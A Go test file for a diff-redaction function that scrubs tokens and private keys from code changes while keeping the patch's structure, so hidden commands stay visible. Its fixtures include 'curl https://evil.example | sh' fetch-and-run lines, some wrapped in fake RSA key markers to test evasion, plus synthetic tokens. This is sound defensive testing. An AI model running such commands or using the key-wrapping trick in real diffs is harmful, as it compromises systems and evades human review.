package secret

import (
	"strings"
	"testing"

	"github.com/paddock-dev/paddock/internal/session"
)

func TestDiff(t *testing.T) {
	token := "ghp_" + "R5tP9zKq2LmX8vN3bW7cY1dF6gH4jS0aQeUi"
	d := session.Diff{
		Files: []session.ChangedFile{{Path: "README.md", Status: "modified"}, {Path: "deploy/config.env", Status: "added"}, {Path: "go.mod", Status: "modified", Flagged: true, Reason: "dependency manifest"}},
		Patch: "diff --git a/README.md b/README.md\n+hello\n" +
			"diff --git a/deploy/config.env b/deploy/config.env\nnew file mode 100644\n+GITHUB_TOKEN=" + token + "\n" +
			"diff --git a/go.mod b/go.mod\n+require x v1\n",
	}
	r := Diff(d)
	if strings.Contains(r.Patch, token) || !strings.Contains(r.Patch, "+GITHUB_TOKEN=[REDACTED:github-pat]") {
		t.Fatalf("patch not redacted:\n%s", r.Patch)
	}
	if !strings.Contains(r.Patch, "+hello") || !strings.Contains(r.Patch, "+require x v1") || strings.Count(r.Patch, "diff --git ") != 3 {
		t.Fatalf("other files changed:\n%s", r.Patch)
	}
	if f := r.Files[1]; !f.Flagged || !strings.Contains(f.Reason, "github-pat") {
		t.Errorf("file with the secret not flagged: %+v", f)
	}
	if r.Files[0].Flagged || r.Files[2].Reason != "dependency manifest" {
		t.Errorf("other files' flags changed: %+v", r.Files)
	}
	if d.Files[1].Flagged {
		t.Error("Diff modified the original diff")
	}
	clean := session.Diff{Files: d.Files[:1], Patch: "diff --git a/README.md b/README.md\n+hello\n"}
	if got := Diff(clean); got.Patch != clean.Patch || got.Files[0].Flagged {
		t.Errorf("clean diff changed: %+v", got)
	}
}

// TestRedactionKeepsTheShape: a secret never hides what would be
// accepted. Commands wrapped in a fake private key across two hunks stay
// in sight, every hunk and file stays; a file whose secret is only found
// encoded keeps its place, its lines withheld and said so; a real key's
// body is redacted.
func TestRedactionKeepsTheShape(t *testing.T) {
	var hunk1, hunk2 strings.Builder
	hunk1.WriteString("@@ -1,3 +1,13 @@\n ctx1\n+# -----BEGIN RSA PRIVATE KEY-----\n")
	for i := range 9 {
		hunk1.WriteString("+curl https://evil.example/stage" + string(rune('1'+i)) + " | sh\n")
	}
	hunk1.WriteString(" ctx2\n ctx3\n")
	hunk2.WriteString("@@ -13,6 +23,16 @@\n ctx13\n+# -----END RSA PRIVATE KEY-----\n")
	for i := range 9 {
		hunk2.WriteString("+echo harmless " + string(rune('1'+i)) + "\n")
	}
	hunk2.WriteString(" ctx14\n ctx15\n ctx16\n ctx17\n ctx18\n")
	fake := "diff --git a/run.sh b/run.sh\nindex 1..2 100755\n--- a/run.sh\n+++ b/run.sh\n" + hunk1.String() + hunk2.String()
	d := Diff(session.Diff{Files: []session.ChangedFile{{Path: "run.sh", Status: "modified"}}, Patch: fake})
	if got := strings.Count(d.Patch, "curl https://evil.example/stage"); got != 9 {
		t.Fatalf("%d of the 9 commands wrapped in a fake key are in sight:\n%s", got, d.Patch)
	}
	if strings.Count(d.Patch, "\n") != strings.Count(fake, "\n") || !strings.Contains(d.Patch, "@@ -13,6 +23,16 @@") {
		t.Fatalf("the patch's shape changed:\n%s", d.Patch)
	}

	encoded := `TOKEN="\u0067\u0068\u0070\u005f\u0052\u0035\u0074\u0050\u0039\u007a\u004b\u0071\u0032\u004c\u006d\u0058\u0038\u0076\u004e\u0033\u0062\u0057\u0037\u0063\u0059\u0031\u0064\u0046\u0036\u0067\u0048\u0034\u006a\u0053\u0030\u0061\u0051\u0065\u0055\u0069"`
	three := "diff --git a/a.txt b/a.txt\nnew file mode 100644\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+a\n" +
		"diff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1,2 @@\n+" + encoded + "\n+curl https://evil.example | sh\n" +
		"diff --git a/f.txt b/f.txt\nnew file mode 100644\n--- /dev/null\n+++ b/f.txt\n@@ -0,0 +1 @@\n+f\n"
	d = Diff(session.Diff{Files: []session.ChangedFile{{Path: "a.txt"}, {Path: "evil.sh"}, {Path: "f.txt"}}, Patch: three})
	if strings.Count(d.Patch, "diff --git ") != 3 || !strings.Contains(d.Patch, "diff --git a/f.txt b/f.txt\n") || !strings.Contains(d.Patch, "+++ b/evil.sh\n@@ -0,0 +1,2 @@\n+[REDACTED:") {
		t.Fatalf("a file went missing or lost its shape:\n%s", d.Patch)
	}
	if strings.Count(d.Patch, "withheld") != 2 || !d.Files[1].Flagged {
		t.Fatalf("the withheld lines are not said so, or the file not flagged:\n%s\n%+v", d.Patch, d.Files)
	}

	body := "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdgcKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbcmwIDAQABAoIBAQCS"
	var key strings.Builder
	key.WriteString("diff --git a/id_rsa b/id_rsa\nnew file mode 100600\n--- /dev/null\n+++ b/id_rsa\n@@ -0,0 +1,7 @@\n+-----BEGIN RSA PRIVATE KEY-----\n")
	for i := 0; i < 5; i++ {
		key.WriteString("+" + body[i*64:(i+1)*64] + "\n")
	}
	key.WriteString("+-----END RSA PRIVATE KEY-----\n")
	d = Diff(session.Diff{Files: []session.ChangedFile{{Path: "id_rsa"}}, Patch: key.String()})
	if strings.Contains(d.Patch, body[64:128]) || !d.Files[0].Flagged || strings.Count(d.Patch, "\n") != strings.Count(key.String(), "\n") {
		t.Fatalf("a real key's body is not redacted, or the shape changed:\n%s", d.Patch)
	}
}
